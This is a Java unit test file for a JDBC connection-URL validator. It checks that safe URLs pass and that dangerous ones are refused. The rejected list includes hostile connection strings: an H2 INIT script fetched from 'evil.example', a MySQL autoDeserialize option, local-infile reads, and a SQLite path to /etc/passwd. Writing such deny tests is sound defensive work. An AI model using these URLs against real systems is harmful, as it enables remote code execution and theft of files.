package org.trainingaudit.dataset;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcAddressTest {

    @Test
    void saysWhereADriverGoesThatWeMayNotShip() {
        assertThatThrownBy(() -> JdbcDrivers.connect(JdbcAddress.of("jdbc:mysql://localhost:3306/crm"), "u", "p", 5))
                .isInstanceOf(RefusedException.class)
                .hasMessageContaining("mysql-connector-j")
                .hasMessageContaining("folder 'drivers'");
    }

    // A42
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db.example/crm?socketFactory=x.Y&socketFactoryArg=z",
                "jdbc:postgresql://db.example/crm?user=u&password=p",
                "jdbc:postgresql://a.example,b.example/crm",
                "jdbc:postgresql:crm",
                "jdbc:mysql://db.example/crm?autoDeserialize=true",
                "jdbc:mysql://db.example/crm?allowLoadLocalInfile=true",
                "jdbc:mysql://u:p@db.example/crm",
                "jdbc:mysql://address=(host=db.example)/crm",
                "jdbc:mariadb://db.example/crm?sslMode=trust&allowLocalInfile=true",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:h2:tcp://db.example/x;TRACE_LEVEL_FILE=3",
                "jdbc:sqlite:/etc/passwd",
                "http://db.example/"
            })
    void refusesAUrlThatCouldDoMoreThanConnect(String url) {
        assertThat(JdbcAddress.fault(url)).isPresent();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db.example:5432/crm?sslmode=verify-full",
                "jdbc:postgresql://[::1]:5432/crm",
                "jdbc:mysql://db.example/crm?sslMode=VERIFY_IDENTITY",
                "jdbc:mariadb://db.example:3306/crm",
                "jdbc:h2:file:./data/crm",
                "jdbc:h2:tcp://db.example:9092/~/crm"
            })
    void takesAUrlThatSaysWhereItIs(String url) {
        assertThat(JdbcAddress.fault(url)).isEmpty();
        assertThat(JdbcAddress.of(url).url()).startsWith(url);
    }
}
